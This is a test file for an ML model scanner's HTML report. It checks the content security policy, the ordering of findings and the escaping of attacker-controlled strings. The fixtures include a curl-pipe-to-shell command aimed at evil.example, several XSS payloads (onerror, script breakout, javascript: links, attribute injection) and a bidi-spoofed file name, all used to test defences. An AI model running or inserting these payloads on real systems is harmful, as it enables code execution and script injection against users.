import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { ScanResult } from '../../src/core/report-types.js';
import type { RuleMeta } from '../../src/detectors/rule.js';
import { escapeHtml, REPORT_CSP, renderHtml } from '../../src/report/html.js';
import { ruleDocsUrl } from '../../src/report/html/findings.js';
import { formatSize } from '../../src/report/html/format.js';
import { renderReport } from '../../src/report/index.js';
import { expectGolden } from '../helpers/golden.js';
import { sampleResult, sampleRules } from './fixture.js';

/** The fixture with what a Hub scan under a policy adds: a source and a decision of deny. */
function hubResult(): ScanResult {
  const result = sampleResult();
  result.source = {
    repo: 'meta-llama/Llama-2-7b-hf',
    revision: 'main',
    commit: '01c7f73d771dfac7d292323805ebc428287df4f9',
    redirectedTo: 'meta-llama/Llama-2-7b-chat-hf',
    hubSecurityStatus: { scansDone: true, filesWithIssues: [] },
  };
  result.decision = {
    allow: false,
    policy: 'policies/production.yaml',
    reasons: [
      { rule: 'maxSeverity', message: 'a critical finding is above the allowed medium', path: 'bert/bundle.zip', ruleId: 'pickle/dangerous-callable' },
      { rule: 'formats', message: 'zip is not an allowed format', path: 'bert/bundle.zip' },
      { rule: 'requirePinnedRevision', message: 'revision main is not a commit sha' },
    ],
  };
  return result;
}

/** Every tag name and every attribute name in `page`, to check nothing was injected. */
function markupNames(page: string): { tags: Set<string>; attributes: Set<string> } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  for (const [, name, rest] of page.matchAll(/<\/?([A-Za-z!][A-Za-z0-9-]*)([^>]*)>/g)) {
    tags.add(name!.toLowerCase());
    // Attribute values are quoted; drop them, then what is left are attribute names.
    for (const [attr] of rest!.replace(/"[^"]*"/g, '').matchAll(/[A-Za-z-]+/g)) attributes.add(attr.toLowerCase());
  }
  return { tags, attributes };
}

const OUR_TAGS = [
  '!doctype',
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'main',
  'header',
  'h1',
  'h2',
  'h3',
  'p',
  'code',
  'section',
  'ol',
  'ul',
  'li',
  'span',
  'a',
  'br',
  'dl',
  'div',
  'dt',
  'dd',
  'pre',
  'details',
  'summary',
  'footer',
];
const OUR_ATTRIBUTES = ['html', 'lang', 'charset', 'http-equiv', 'content', 'name', 'class', 'id', 'href', 'rel', 'title', 'open', 'aria-label'];

describe('renderHtml', () => {
  const page = renderHtml(hubResult(), sampleRules());

  it('matches the golden page', () => {
    expectGolden('report/golden/report.html', page);
  });

  it('is what renderReport writes for --format html', () => {
    expect(renderReport('html', hubResult(), sampleRules())).toBe(page);
  });

  it('is one document with one inline style sheet, no script and nothing to load', () => {
    expect(page.startsWith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n')).toBe(true);
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page).not.toMatch(/<script|<link|<img|<iframe|<object|@import|url\(/i);
    expect(page).not.toMatch(/\ssrc=/i);
    // Links go to the rule docs (https) or to anchors on this page.
    for (const [, href] of page.matchAll(/href="([^"]*)"/g)) {
      expect(href).toMatch(/^(https:\/\/github\.com\/modelgate\/modelgate\/blob\/main\/docs\/rules\/|#file-\d+$)/);
    }
    const { tags, attributes } = markupNames(page);
    expect([...tags].filter((tag) => !OUR_TAGS.includes(tag))).toEqual([]);
    expect([...attributes].filter((attr) => !OUR_ATTRIBUTES.includes(attr))).toEqual([]);
  });

  it('has a Content-Security-Policy that forbids every load and allows only its own style sheet', () => {
    // The policy must come before anything it governs: right after the charset.
    expect(page).toContain(`<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="${escapeHtml(REPORT_CSP)}">`);
    expect(REPORT_CSP).toMatch(/^default-src 'none'; /);
    expect(REPORT_CSP).toContain("base-uri 'none'");
    expect(REPORT_CSP).toContain("form-action 'none'");
    expect(REPORT_CSP).not.toMatch(/unsafe-inline|unsafe-eval|script-src|https?:|\*/);
    const css = page.slice(page.indexOf('<style>') + '<style>'.length, page.indexOf('</style>'));
    const hash = createHash('sha256').update(css).digest('base64');
    expect(REPORT_CSP).toContain(`style-src 'sha256-${hash}'`);
  });

  it('puts the decision first, prominently, with every reason', () => {
    expect(page.indexOf('class="decision decision-deny"')).toBeLessThan(page.indexOf('class="summary"'));
    expect(page).toContain('<span class="decision-word">DENY</span> Denied by policy');
    expect(page).toContain('Policy: <code>policies/production.yaml</code>');
    expect(page).toContain('<h3>Reasons (3)</h3>');
    expect(page).toContain('<span class="reason-rule">maxSeverity</span> <span class="reason-message">a critical finding is above the allowed medium</span>');
    expect(page).toContain('file <a href="#file-0"><code>bert/bundle.zip</code></a> · rule <code>pickle/dangerous-callable</code>');
    expect(page).toContain('<span class="reason-rule">requirePinnedRevision</span> <span class="reason-message">revision main is not a commit sha</span></li>');
    expect(page).toContain('id="file-0"');
  });

  it('says allow, with its notes, when the policy allows', () => {
    const result = hubResult();
    result.decision = { allow: true, reasons: [{ rule: 'overrides', message: 'pickle/unknown-global waived until 2027-01-01' }] };
    const allowed = renderHtml(result, sampleRules());
    expect(allowed).toContain('class="decision decision-allow"');
    expect(allowed).toContain('<span class="decision-word">ALLOW</span> Allowed by policy');
    expect(allowed).toContain('<h3>Notes (1)</h3>');
    expect(allowed).not.toContain('Policy: ');
    result.decision = { allow: true, reasons: [] };
    expect(renderHtml(result, sampleRules())).toContain('<p class="muted">No notes given.</p>');
  });

  it('shows the counts by verdict, max severity, duration and tool', () => {
    expect(page).toContain('<li class="count count-files"><span class="n">4</span> <span class="label">files</span></li>');
    for (const verdict of ['malicious', 'suspicious', 'error', 'clean']) {
      expect(page).toContain(`<li class="count verdict-${verdict}"><span class="n">1</span> <span class="label">${verdict}</span></li>`);
    }
    expect(page).toContain('<dt>Max severity</dt><dd><span class="badge sev sev-critical">critical</span></dd>');
    expect(page).toContain('<dt>Duration</dt><dd>41 ms</dd>');
    expect(page).toContain('<dt>Tool</dt><dd>modelgate 0.1.0</dd>');
  });

  it('shows the source: repo, revision, commit, redirect and the Hub status as one signal', () => {
    expect(page).toContain('<dt>Repository</dt><dd><code>meta-llama/Llama-2-7b-hf</code></dd>');
    expect(page).toContain('<dt>Commit</dt><dd><code class="hash">01c7f73d771dfac7d292323805ebc428287df4f9</code></dd>');
    expect(page).toContain('<dt>Redirected to</dt><dd><code>meta-llama/Llama-2-7b-chat-hf</code>');
    expect(page).toContain('<pre><code>{\n  &quot;scansDone&quot;: true,\n  &quot;filesWithIssues&quot;: []\n}</code></pre>');
  });

  it('leaves out the decision, source and target sections a report does not have', () => {
    const result = sampleResult();
    result.findings = [];
    const plain = renderHtml(result, sampleRules());
    expect(plain).not.toContain('class="decision');
    expect(plain).not.toContain('class="source"');
    expect(plain).not.toContain('class="target-findings"');
  });

  it('lists findings about the whole target with their target', () => {
    const section = page.slice(page.indexOf('class="target-findings"'), page.indexOf('class="files-section"'));
    expect(section).toContain('<h2>About the target <span class="muted">(1)</span></h2>');
    expect(section).toContain('>lock/extra-file</a> <span class="rule-title">File not in the lock</span>');
    expect(section).toContain('<dt>Target</dt><dd><code>models/</code></dd>');
  });

  it('shows flagged files first and open, worst verdict first, and clean files collapsed', () => {
    const order = ['bert/bundle.zip', 'extra/loader.pkl', 'broken.npy', 'config.json'].map((path) => page.indexOf(`<code class="path">${path}</code>`));
    expect(order.every((at) => at > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(page).toContain('<details class="file verdict-malicious" id="file-0" open>');
    expect(page).toContain('<details class="file verdict-error" id="file-2" open>');
    expect(page).toContain('<details class="clean-files">\n<summary>1 clean file</summary>');
    expect(page.indexOf('<details class="clean-files">')).toBeLessThan(order[3]!);

    // Report order is not verdict order: an error file listed first still comes after a malicious one.
    const result = sampleResult();
    result.files.reverse();
    const reordered = renderHtml(result, sampleRules());
    expect(reordered.indexOf('id="file-3" open')).toBeLessThan(reordered.indexOf('id="file-1" open'));
  });

  it('shows each file with its format, size and sha256 with where the hash came from', () => {
    expect(page).toContain('<dt>Size</dt><dd>417.7 MiB (438,000,000 bytes)</dd>');
    expect(page).toContain(
      '<code class="hash">9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</code> <span class="muted">(computed from every byte)</span>',
    );
    expect(page).toContain('<dt>SHA-256</dt><dd><span class="muted">not computed (hashing was off)</span></dd>');
    const result = sampleResult();
    result.files[0]!.sha256Source = 'hub-lfs';
    expect(renderHtml(result, sampleRules())).toContain('(from the Hub&#39;s LFS metadata, not recomputed)');
  });

  it('shows a finding with its severity, rule, docs link, message, member target, location and evidence', () => {
    expect(page).toContain(
      '<span class="badge sev sev-critical">critical</span> <a class="rule-id" href="https://github.com/modelgate/modelgate/blob/main/docs/rules/pickle/dangerous-callable.md" rel="noopener noreferrer" title="Rule documentation: docs/rules/pickle/dangerous-callable.md">pickle/dangerous-callable</a> <span class="rule-title">Pickle calls a dangerous callable</span>',
    );
    expect(page).toContain('<p class="message">unpickling calls os.system(&#39;curl … | sh&#39;)</p>');
    expect(page).toContain('<dt>Target</dt><dd><code>bert/bundle.zip!/pytorch_model.bin!/archive/data.pkl</code></dd>');
    expect(page).toContain('<dt>Location</dt><dd>byte offset 1,234, opcode #57</dd>');
    expect(page).toContain('<pre><code>os.system(&#39;curl https://evil.example/x | sh&#39;)</code></pre>');
    // The target is the file itself: not repeated.
    const loader = page.slice(page.indexOf('id="file-1"'), page.indexOf('id="file-2"'));
    expect(loader).not.toContain('<dt>Target</dt>');
  });

  it('puts the most severe finding of a file first', () => {
    const result = sampleResult();
    result.files[0]!.findings.reverse();
    const reordered = renderHtml(result, sampleRules());
    expect(reordered.indexOf('sev-critical">critical')).toBeLessThan(reordered.indexOf('sev-info">info'));
  });

  it('marks fatal findings and shows their code; a rule without metadata gets no link', () => {
    const broken = page.slice(page.indexOf('id="file-2"'), page.indexOf('class="clean-files"'));
    expect(broken).toContain(
      '<span class="badge sev sev-low">low</span> <span class="badge fatal" title="the analysis stopped early">fatal</span> <code class="rule-id">engine/parse-failed</code></div>',
    );
    expect(broken).toContain('<dt>Code</dt><dd><code>TRUNCATED</code></dd>');
  });

  it('keeps the notes of a clean file folded in the clean list', () => {
    const result = sampleResult();
    result.files[3]!.findings = [{ ruleId: 'pytorch/prefer-safetensors', severity: 'info', message: 'prefer safetensors', target: 'config.json' }];
    const withNotes = renderHtml(result, sampleRules());
    const clean = withNotes.slice(withNotes.indexOf('<details class="clean-files">'));
    expect(clean).toContain('<details class="notes">\n<summary>1 note</summary>');
    expect(clean).toContain('<p class="message">prefer safetensors</p>');
  });

  it('says so when no file was scanned', () => {
    const result = sampleResult();
    result.files = [];
    result.findings = [];
    result.summary = { files: 0, malicious: 0, suspicious: 0, clean: 0, error: 0, maxSeverity: null, durationMs: 2500 };
    const empty = renderHtml(result, sampleRules());
    expect(empty).toContain('<p class="muted">No files were scanned.</p>');
    expect(empty).toContain('<dt>Max severity</dt><dd><span class="muted">none</span></dd>');
    expect(empty).toContain('<dt>Duration</dt><dd>2.5 s</dd>');
    expect(empty).toContain('<li class="count verdict-malicious zero">');
  });
});

describe('renderHtml escaping', () => {
  const EVIL_NAME = '<img src=x onerror=alert(1)>.pkl';
  const EVIL_EVIDENCE = "os.system('</script><script>alert(1)</script>')";

  /** The strings of the report an attacker controls, each put in its place in the fixture. */
  interface Planted {
    name: string;
    evidence: string;
    message: string;
    ruleId: string;
    format: string;
    target: string;
    repo: string;
    reasonRule: string;
    reasonMessage: string;
    targetMessage: string;
  }

  function planted(strings: Planted): ScanResult {
    const result = hubResult();
    const file = result.files[1]!;
    file.path = strings.name;
    file.format = strings.format;
    file.findings[0]!.target = strings.name;
    file.findings[0]!.evidence = strings.evidence;
    file.findings[0]!.message = strings.message;
    file.findings[0]!.ruleId = strings.ruleId;
    result.targets[0] = strings.target;
    result.source!.repo = strings.repo;
    result.decision!.reasons[1] = { rule: strings.reasonRule, message: strings.reasonMessage, path: strings.name };
    // The fixture shares its target finding between calls: replace it, never change it.
    result.findings[0] = { ...result.findings[0]!, message: strings.targetMessage };
    return result;
  }

  const hostile: Planted = {
    name: EVIL_NAME,
    evidence: EVIL_EVIDENCE,
    message: 'imports "x" & \'y\' <style>body{display:none}</style>',
    ruleId: 'pickle/<u>unknown</u>',
    format: '"><b>pickle',
    target: 'hf:evil/</title><script>alert(1)</script>',
    repo: 'evil/"onmouseover="alert(1)',
    reasonRule: '<i>formats</i>',
    reasonMessage: '<a href="javascript:alert(1)">click</a>',
    targetMessage: '<iframe src="https://evil.example/">',
  };

  /** The same places filled with harmless words: the page must have the very same markup. */
  const tame: Planted = {
    name: 'loader.pkl',
    evidence: 'os.system(1)',
    message: 'imports x',
    ruleId: 'pickle/other',
    format: 'pickle',
    target: 'hf:org/name',
    repo: 'org/name',
    reasonRule: 'formats',
    reasonMessage: 'not allowed',
    targetMessage: 'a lock mismatch',
  };

  const hostileResult = (): ScanResult => planted(hostile);

  const page = renderHtml(hostileResult(), sampleRules());

  it('writes a hostile file name and evidence as text', () => {
    expect(page).toContain('<code class="path">&lt;img src=x onerror=alert(1)&gt;.pkl</code>');
    expect(page).toContain('<pre><code>os.system(&#39;&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#39;)</code></pre>');
    expect(page).toContain('<p class="message">imports &quot;x&quot; &amp; &#39;y&#39; &lt;style&gt;body{display:none}&lt;/style&gt;</p>');
    expect(page).toContain('<title>modelgate report: hf:evil/&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;, extra/loader.pkl</title>');
    expect(page).toContain('<code>evil/&quot;onmouseover=&quot;alert(1)</code>');
    expect(page).toContain('<code>&quot;&gt;&lt;b&gt;pickle</code>');
    expect(page).toContain('<code class="rule-id">pickle/&lt;u&gt;unknown&lt;/u&gt;</code>');
    expect(page).toContain(
      '<span class="reason-rule">&lt;i&gt;formats&lt;/i&gt;</span> <span class="reason-message">&lt;a href=&quot;javascript:alert(1)&quot;&gt;click&lt;/a&gt;</span>',
    );
    expect(page).toContain('file <a href="#file-1"><code>&lt;img src=x onerror=alert(1)&gt;.pkl</code></a>');
  });

  it('adds no element and no attribute of its own making', () => {
    const { tags, attributes } = markupNames(page);
    expect([...tags].filter((tag) => !OUR_TAGS.includes(tag))).toEqual([]);
    expect([...attributes].filter((attr) => !OUR_ATTRIBUTES.includes(attr))).toEqual([]);
    expect(page).not.toMatch(/<script|<img|<iframe|<style>body|<b>|<i>|<u>/i);
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page.match(/<\/style>/g)).toHaveLength(1);
    // The same markup as a report with harmless words in the same places: only text differs.
    const tagsOf = (html: string): string[] => [...html.matchAll(/<\/?[A-Za-z!][^>]*>/g)].map(([tag]) => tag);
    expect(tagsOf(page)).toEqual(tagsOf(renderHtml(planted(tame), sampleRules())));
  });

  it('shows control and bidi characters escaped, and keeps line feeds only in evidence', () => {
    expect(escapeHtml('gnp.\u202eexe')).toBe('gnp.\\u202eexe');
    expect(escapeHtml('a\u0000b\r\nc')).toBe('a\\x00b\\x0d\\x0ac');
    const result = sampleResult();
    result.files[1]!.path = 'report\u202efdp.exe';
    result.files[1]!.findings[0]!.evidence = 'line one\nline\ttwo\u001b[2K';
    const text = renderHtml(result, sampleRules());
    expect(text).toContain('<code class="path">report\\u202efdp.exe</code>');
    expect(text).toContain('<pre><code>line one\nline\\x09two\\x1b[2K</code></pre>');
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e\u2066-\u2069]/);
  });

  it('links rule docs only over https', () => {
    const rule = (docs: string): RuleMeta => ({ id: 'x/y', defaultSeverity: 'low', title: 't', description: 'd', docs, references: [] });
    expect(ruleDocsUrl(rule('docs/rules/x-y.md'))).toBe('https://github.com/modelgate/modelgate/blob/main/docs/rules/x-y.md');
    expect(ruleDocsUrl(rule('javascript:alert(1)'))).toBeUndefined();
    expect(ruleDocsUrl(rule('http://example.com/'))).toBeUndefined();
    const result = sampleResult();
    const rules = sampleRules().map((r) => (r.id === 'pickle/unknown-global' ? { ...r, docs: 'javascript:alert(1)' } : r));
    const text = renderHtml(result, rules);
    expect(text).not.toContain('javascript:');
    expect(text).toContain('<code class="rule-id">pickle/unknown-global</code> <span class="rule-title">Pickle imports an unknown global</span>');
  });
});

describe('formatSize', () => {
  it('writes bytes exactly and larger sizes in binary units too', () => {
    expect(formatSize(0)).toBe('0 bytes');
    expect(formatSize(1)).toBe('1 byte');
    expect(formatSize(1023)).toBe('1,023 bytes');
    expect(formatSize(1024)).toBe('1.0 KiB (1,024 bytes)');
    expect(formatSize(7 * 1024 ** 3 + 5)).toBe('7.0 GiB (7,516,192,773 bytes)');
  });
});
